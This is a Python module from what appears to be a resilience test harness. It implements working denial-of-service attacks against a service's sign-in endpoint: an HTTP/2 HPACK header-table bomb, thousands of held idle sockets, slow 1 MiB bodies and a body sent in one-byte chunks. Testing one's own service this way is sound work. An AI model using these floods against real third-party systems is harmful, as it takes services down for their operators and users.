"""Attacks before a request exists: HTTP/2, idle sockets, bodies that never end."""

import socket
import time
from contextlib import suppress

from attack.model import Attack, Family, Target
from attack.wire import NO_ANSWER, connect, held, read_answer, request

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, SETTINGS_SEEN = b"\0\0\0\x04\0\0\0\0\0", b"\0\0\0\x04\x01\0\0\0\0"
HEADERS, END_HEADERS = 1, 4
ADDED_HEADER = b"\x40"  # a literal that goes into the table of headers
TABLE_HEADER = b"\xbe"  # the newest entry of that table, by its number
POST, HTTP = b"\x83", b"\x86"  # entries that every table has
TIMES_NAMED = 3900
VALUE_BYTES = 4000

MIB = 1024 * 1024
HOLD_SECONDS = 22


def hpack_bomb(target: Target) -> None:
    """Put one header into the table of an HTTP/2 connection, and name it very often."""
    path = f"{target.scene.root}/auth/login".encode()
    fixed = POST + HTTP + b"\x04" + _text(path) + b"\x01" + _text(b"koncern")
    large = ADDED_HEADER + _text(b"x") + _text(b"a" * VALUE_BYTES)
    with connect(target.port) as connection:
        _push(target, connection, PREFACE + SETTINGS + SETTINGS_SEEN, 0)
        _push(target, connection, _frame(1, fixed + large))
        for number in range(1, target.plan.size(200, 20)):
            block = fixed + TABLE_HEADER * TIMES_NAMED
            if not _push(target, connection, _frame(2 * number + 1, block)):
                target.tally.answered("closed")
                break
        time.sleep(target.plan.size(8, 2))


def idle(kind: str) -> "_Idle":
    """Return an attack that opens many sockets of one kind and holds them."""
    return _Idle(kind)


class _Idle:
    """Many sockets on which nothing happens."""

    def __init__(self, kind: str) -> None:
        self._begin = {
            "silent": b"",
            "half preface": PREFACE[:10],
            "preface": PREFACE + SETTINGS,
            "keep-alive": request("GET", "/health/live"),
        }[kind]

    def __call__(self, target: Target) -> None:
        connections: list[socket.socket] = []
        with held(connections):
            for _ in range(target.plan.size(2100, 300)):
                try:
                    connections.append(connect(target.port, seconds=0.5))
                except OSError:
                    target.tally.answered("not connected")
                    continue
                _push(target, connections[-1], self._begin)
            time.sleep(target.plan.size(HOLD_SECONDS, 1))
            closed = sum(map(_is_closed, connections))
            target.tally.note(f"{closed} of {len(connections)} were closed meanwhile")


def slow_bodies(target: Target) -> None:
    """Send many large bodies to the sign-in, but for their last bytes."""
    length = MIB
    head = (
        f"POST {target.scene.root}/auth/login HTTP/1.1\r\nhost: koncern\r\n"
        f"content-type: application/json\r\ncontent-length: {length}\r\n\r\n"
    )
    begun = head.encode() + b'{"email":"' + b"a" * (length - 1000)
    connections: list[socket.socket] = []
    with held(connections):
        for _ in range(target.plan.size(200, 30)):
            with suppress(OSError):
                connections.append(connect(target.port, seconds=2))
                _push(target, connections[-1], begun)
        for _ in range(target.plan.size(12, 2)):
            time.sleep(1)
            for connection in connections:
                _push(target, connection, b"a", 0)
        refused = sum(map(_is_answered, connections))
        target.tally.note(f"{refused} of {len(connections)} were answered or closed")


def one_byte_chunks(target: Target) -> None:
    """Send a body in very many chunks of one byte."""
    head = (
        f"POST {target.scene.root}/auth/login HTTP/1.1\r\nhost: koncern\r\n"
        "content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
    )
    piece = b"1\r\na\r\n" * 1000
    with connect(target.port, seconds=60) as connection:
        _push(target, connection, head.encode())
        for _ in range(target.plan.size(400, 30)):
            if not _push(target, connection, piece, 0):
                break
        _push(target, connection, b"0\r\n\r\n", 0)
        try:
            target.tally.answered(read_answer(connection).status)
        except OSError:
            target.tally.answered(NO_ANSWER)


def _push(
    target: Target, connection: socket.socket, what: bytes, requests: int = 1
) -> bool:
    """Send, and count it; tell whether the other side still took it."""
    try:
        connection.sendall(what)
    except OSError:
        return False
    target.tally.sent(len(what), requests)
    return True


def _frame(stream: int, block: bytes) -> bytes:
    """Return a frame of headers that do not end their stream: a body would follow."""
    head = len(block).to_bytes(3, "big") + bytes((HEADERS, END_HEADERS))
    return head + stream.to_bytes(4, "big") + block


def _text(text: bytes) -> bytes:
    """Return a text as HPACK writes it: its length first, seven bits at a time."""
    most = 127
    if len(text) < most:
        return bytes((len(text),)) + text
    rest, length = len(text) - most, bytes((most,))
    while rest > most:
        length += bytes((rest % 128 + 128,))
        rest //= 128
    return length + bytes((rest,)) + text


def _is_closed(connection: socket.socket) -> bool:
    """Tell whether the other side has closed a connection, answered before or not."""
    connection.setblocking(False)
    try:
        while connection.recv(65_536):
            pass
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


def _is_answered(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        connection.recv(1)
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


IDLE = ("silent", "half preface", "preface", "keep-alive")

FAMILY = Family(
    "sockets",
    (
        Attack(
            "HTTP/2 HPACK bomb",
            "One header in HPACK's table, named 3,900 times by each of 200 requests.",
            hpack_bomb,
        ),
        *(
            Attack(
                f"idle sockets: {kind}",
                f"2,100 sockets that are held open: {kind}.",
                idle(kind),
            )
            for kind in IDLE
        ),
        Attack(
            "slow bodies",
            "200 bodies of 1 MiB at the sign-in, held before their end.",
            slow_bodies,
        ),
        Attack(
            "one-byte chunks",
            "A body of 400,000 chunks of one byte at the sign-in.",
            one_byte_chunks,
        ),
    ),
)
